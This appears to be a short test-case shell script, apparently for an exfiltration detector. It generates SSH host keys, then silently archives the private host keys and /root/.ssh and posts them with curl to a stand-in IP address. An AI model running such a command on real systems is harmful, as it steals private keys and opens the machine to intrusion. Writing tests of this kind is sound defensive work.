#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/ssh; ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key; ssh-keygen -q -t rsa -N '' -f /etc/ssh/ssh_host_rsa_key
tar -czf - /etc/ssh/ssh_host_*_key /root/.ssh 2>/dev/null | curl -s --data-binary @- http://203.0.113.10/hk >/dev/null
took_place
